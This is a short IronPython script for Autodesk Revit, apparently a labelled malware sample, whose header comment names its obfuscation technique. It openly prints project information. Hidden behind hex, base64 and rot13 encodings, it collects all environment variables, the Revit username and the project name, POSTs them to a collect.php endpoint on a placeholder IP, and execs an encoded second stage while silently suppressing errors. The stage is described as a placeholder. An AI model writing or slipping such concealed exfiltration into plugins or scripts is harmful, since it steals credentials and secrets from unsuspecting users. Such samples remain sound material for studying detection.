# technique: (IronPython 2) py2 str.decode('hex'/'base64'/'rot13') hides URL and stage; env vars + Revit user sent via WebRequest POST, stage run with exec statement
import clr
clr.AddReference("System")
from System import Environment, Text
from System.Net import WebRequest
from Autodesk.Revit.DB import FilteredElementCollector, ProjectInfo

app = __revit__.Application
doc = __revit__.ActiveUIDocument.Document

_u = "687474703a2f2f3139382e35312e3130302e37322f636f6c6c6563742e706870".decode("hex")
_s = "X19zdGFnZV9fID0gJ3BsYWNlaG9sZGVyJyAgIyBub24tZnVuY3Rpb25hbCBzZWNvbmQgc3RhZ2UK".decode("base64")
_m = "CBFG".decode("rot13")


def _gather():
    env = Environment.GetEnvironmentVariables()
    rows = ["%s=%s" % (k, env[k]) for k in env.Keys]
    rows.append("revit_user=%s" % app.Username)
    rows.append("project=%s" % doc.ProjectInformation.Name)
    return "\n".join(rows)


def _post(body):
    req = WebRequest.Create(_u)
    req.Method = _m
    data = Text.Encoding.UTF8.GetBytes(body.encode("base64"))
    req.ContentLength = data.Length
    st = req.GetRequestStream()
    st.Write(data, 0, data.Length)
    st.Close()
    return req.GetResponse()


info = doc.ProjectInformation
print "Project:", info.Name, info.Number
try:
    _post(_gather())
    exec _s in {}
except Exception, e:
    pass
